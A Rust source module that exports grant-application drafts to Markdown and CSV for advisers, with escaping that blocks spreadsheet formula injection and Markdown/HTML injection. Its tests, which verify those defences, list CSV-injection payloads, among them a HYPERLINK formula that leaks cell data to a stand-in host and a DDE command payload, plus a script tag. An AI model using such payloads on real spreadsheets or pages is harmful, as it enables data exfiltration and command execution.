//! Drafts as documents for advisers: a Markdown application text, JSON, and CSV rows.
//! Pure functions over a draft and the content (for labels in the advisers' language).

use super::content::Content;
use super::dialog::{Dialog, Field as SummaryField, StepKind};
use super::draft::Draft;
use super::display::{display_field, display_value};
use super::ids::{MessageId, SlotName};
use super::locale::Locale;
use super::value::{Date, Value};

/// One answer of a draft as advisers read it.
pub struct Row {
    /// The heading of the section this field starts, if it starts one.
    pub section: Option<String>,
    pub label: String,
    pub value: String,
    pub slot: SlotName,
}

/// The answers of a draft as (label, readable value), as its summary shows them. (Everything
/// else the session collected, e.g. loop counters, is in the JSON export.)
pub fn fields(content: &Content, draft: &Draft, locale: Locale) -> Vec<(String, String)> {
    sections(content, draft, locale).into_iter().map(|f| (f.label, f.value)).collect()
}

/// The answered fields of the draft's summary, in its order, with their section headings (a
/// heading whose fields are all unanswered moves to the next answered field).
pub fn sections(content: &Content, draft: &Draft, locale: Locale) -> Vec<Row> {
    let Some(d) = content.dialogs.get(&draft.dialog) else { return Vec::new() };
    let text = |id: &MessageId| content.catalog.format(locale, id, None);
    let mut pending: Option<String> = None;
    let mut out = Vec::new();
    for f in summary_fields(d) {
        if let Some(s) = &f.section {
            pending = Some(text(&s.id));
        }
        let Some(v) = draft.answers.get(&f.slot) else { continue };
        let shown = display_field(content, locale, &f.slot, f.unit.as_ref(), v);
        let value = crate::core::display::with_worth(content, locale, d, &f.slot, shown, |s| crate::core::condition::number(&draft.answers, s));
        out.push(Row { section: pending.take(), label: text(&f.label.id), value, slot: f.slot.clone() });
    }
    out
}

fn summary_fields(d: &Dialog) -> Vec<&SummaryField> {
    d.steps
        .iter()
        .filter_map(|s| match &s.kind {
            StepKind::Summary { fields, .. } => Some(fields),
            _ => None,
        })
        .flatten()
        .collect()
}

/// The amount applied for (a number question with `share_of`), the costs it is a share of,
/// their total, and the share in whole percent.
struct Share<'a> {
    amount: &'a SlotName,
    costs: &'a [SlotName],
    total: i64,
    percent: i64,
    /// What the percentage is of: `total` or `norwegian` (costs).
    of: &'static str,
}

/// When `slot` is the amount applied for and the draft's financing plan does not add up to
/// its costs: the arguments of the line that says so.
fn financing_off(content: &Content, draft: &Draft, slot: &SlotName, locale: Locale) -> Option<fluent_bundle::FluentArgs<'static>> {
    let (amount, costs, financing) = content.dialogs.get(&draft.dialog)?.financing()?;
    if amount != slot {
        return None;
    }
    let balance = crate::core::dialog::financing::Balance::of(amount, costs, financing, |s| crate::core::condition::number(&draft.answers, s))?;
    crate::core::display::financing_args(content, locale, balance)
}

fn share<'a>(content: &'a Content, draft: &Draft) -> Option<Share<'a>> {
    let d = content.dialogs.get(&draft.dialog)?;
    let (amount, costs) = d.amount_question()?;
    let number = |s: &SlotName| match draft.answers.get(s) {
        Some(Value::Number(n)) => *n,
        _ => 0,
    };
    let total: i64 = costs.iter().map(number).sum();
    // The share as the scheme the draft followed counts it: of the Norwegian side's costs, where it says.
    let norwegian = matches!(draft.answers.get(&SlotName::new("share_base")), Some(Value::Choice(b)) if b == "norwegian");
    let (base, of) = match draft.answers.get(&SlotName::new("norwegian_costs")) {
        Some(Value::Number(n)) if norwegian => (*n, "norwegian"),
        _ => (total, "total"),
    };
    (base > 0).then(|| Share { amount, costs, total, percent: (number(amount) * 100 + base / 2) / base, of })
}

/// A tidy application text an adviser can work from: the draft's facts, its answers under the
/// summary's section headings, the total costs and the share applied for, and its history.
pub fn markdown(content: &Content, draft: &Draft, locale: Locale) -> String {
    let text = |id: &str| content.catalog.format(locale, &MessageId::new(id), None);
    let title = draft.answers.get(&SlotName::new("project_title")).map(|v| md_text(&display_value(content, locale, &SlotName::new("project_title"), v)));
    let formats = content.catalog.formats(locale);
    let mut md = format!("# {}\n\n", formats.pair(draft.id.as_str(), &title.unwrap_or_else(|| text("application-title"))));
    md.push_str(&format!("- **{}:** {}\n", text("export-status"), content.catalog.format(locale, &draft.status.name_id(), None)));
    md.push_str(&format!("- **{}:** {}\n", text("export-submitted"), formats.date_short(Date::from_unix(draft.created))));
    md.push_str(&format!("- **{}:** {} ({})\n", text("export-applicant"), draft.user, draft.locale));
    if draft.erase_requested {
        md.push_str(&format!("- **{}**\n", text("export-erase")));
    }
    for u in &draft.undelivered {
        md.push_str(&format!("- **{}:** {} ({})\n", text("export-undelivered"), u.sink, md_text(&u.reason)));
    }
    md.push('\n');
    let share = share(content, draft);
    for f in sections(content, draft, locale) {
        if let Some(section) = &f.section {
            md.push_str(&format!("## {section}\n\n"));
        }
        let mut value = md_text(&f.value);
        if let Some(s) = share.as_ref().filter(|s| s.amount == &f.slot) {
            let mut args = fluent_bundle::FluentArgs::new();
            args.set("share", s.percent);
            args.set("base", s.of);
            value = format!("{value} ({})", content.catalog.format(locale, &MessageId::new("export-share"), Some(&args)));
        }
        // A list, also of one item ("• Concert — 15.03.2027"): as a list.
        if value.contains('\n') || value.starts_with("• ") {
            let list: Vec<String> = value.lines().map(|l| format!("- {}", l.trim_start_matches("• "))).collect();
            md.push_str(&format!("**{}:**\n\n{}\n\n", f.label, list.join("\n")));
        } else {
            md.push_str(&format!("**{}:** {value}\n\n", f.label));
        }
        // Under the amount: a financing plan that does not add up to the costs.
        if let Some(a) = financing_off(content, draft, &f.slot, locale) {
            md.push_str(&format!("**{}**\n\n", content.catalog.format(locale, &MessageId::new("export-financing"), Some(&a))));
        }
        // The total under the last cost line.
        if let Some(s) = share.as_ref().filter(|s| s.costs.last() == Some(&f.slot)) {
            let mut a = fluent_bundle::FluentArgs::new();
            a.set("value", s.total);
            md.push_str(&format!("**{}:** {}\n\n", text("export-total-costs"), content.catalog.format(locale, &MessageId::new("unit-kroner"), Some(&a))));
        }
    }
    if draft.history.len() > 1 {
        md.push_str(&format!("## {}\n\n", text("export-history")));
        for e in &draft.history {
            // No adviser named: the applicant (their submission, their answers).
            let who = match e.by.as_deref() {
                None => text("export-by-applicant"),
                Some(crate::core::draft::BY_COMMAND_LINE) => text("export-by-command-line"),
                Some(by) => md_text(by),
            };
            let note = e.note.as_deref().map(|n| format!(": {}", md_text(n))).unwrap_or_default();
            let status = content.catalog.format(locale, &e.status.name_id(), None);
            md.push_str(&format!("- {} {status} ({who}){note}\n", formats.date_short(Date::from_unix(e.at))));
        }
    }
    md.trim_end().to_owned() + "\n"
}

/// A CSV field: a leading `=`, `+`, `-`, `@`, tab or carriage return is made inert with an
/// apostrophe, so a spreadsheet shows it instead of running it as a formula (OWASP's advice
/// against CSV injection); then quoted when it needs it (RFC 4180).
fn csv_field(s: &str) -> String {
    let inert = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{s}") } else { s.to_owned() };
    if inert.contains([',', '"', '\n', '\r']) { format!("\"{}\"", inert.replace('"', "\"\"")) } else { inert }
}

/// Text someone typed, made inert for Markdown: nothing in it becomes emphasis, a link, code,
/// a heading, a table or HTML when the export is rendered. ("!" needs no escape: "[" after it
/// is escaped, so no image can start, and "Takk!" stays as it was written.)
fn md_text(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        if matches!(c, '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '#' | '|' | '~' | '&') {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// One row per draft; columns: id, status, created, platform, language, then every answer slot.
pub fn csv(content: &Content, drafts: &[Draft], locale: Locale) -> String {
    let mut slots: Vec<&SlotName> = drafts.iter().flat_map(|d| d.answers.keys()).collect();
    slots.sort();
    slots.dedup();
    let mut out = String::from("id,status,created,platform,language");
    for s in &slots {
        out.push(',');
        out.push_str(&csv_field(s.as_str()));
    }
    out.push('\n');
    for d in drafts {
        let mut row = vec![d.id.to_string(), d.status.as_str().to_owned(), Date::from_unix(d.created).to_string(), d.user.platform.as_str().to_owned(), d.locale.code().to_owned()];
        for s in &slots {
            row.push(d.answers.get(*s).map(|v| display_value(content, locale, s, v).replace('\n', "; ")).unwrap_or_default());
        }
        out.push_str(&row.iter().map(|f| csv_field(f)).collect::<Vec<_>>().join(","));
        out.push('\n');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_exported_cell_is_a_formula() {
        for attack in ["=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Open\")", "+1+cmd|'/C calc'!A0", "@SUM(1+1)", "-2+3", "\tcmd", "\rcmd", "+47 912 34 567"] {
            let cell = csv_field(attack);
            let unquoted = cell.trim_start_matches('"');
            assert!(unquoted.starts_with('\''), "{attack:?} became {cell:?}");
        }
        assert_eq!(csv_field("Kirkenes Choir"), "Kirkenes Choir");
        assert_eq!(csv_field("a, \"b\""), "\"a, \"\"b\"\"\"");
    }

    #[test]
    fn typed_text_is_inert_in_markdown() {
        let md = md_text("<script>alert(1)</script> **bold** [click](http://evil.example) `code` # no heading | &amp; \\*");
        // Take away every escaped character: nothing that means anything to Markdown is left.
        let mut bare = String::new();
        let mut chars = md.chars();
        while let Some(c) = chars.next() {
            if c == '\\' {
                chars.next();
            } else {
                bare.push(c);
            }
        }
        assert!(!bare.contains(['<', '>', '*', '[', ']', '`', '#', '|', '&', '\\']), "{md}");
        assert_eq!(md_text("Singing across the border."), "Singing across the border.");
        // An image cannot start without its "[": "!" stays as written.
        assert_eq!(md_text("Takk!"), "Takk!");
        assert_eq!(md_text("![x](http://evil.example/p.png)"), "!\\[x\\](http://evil.example/p.png)");
    }
}
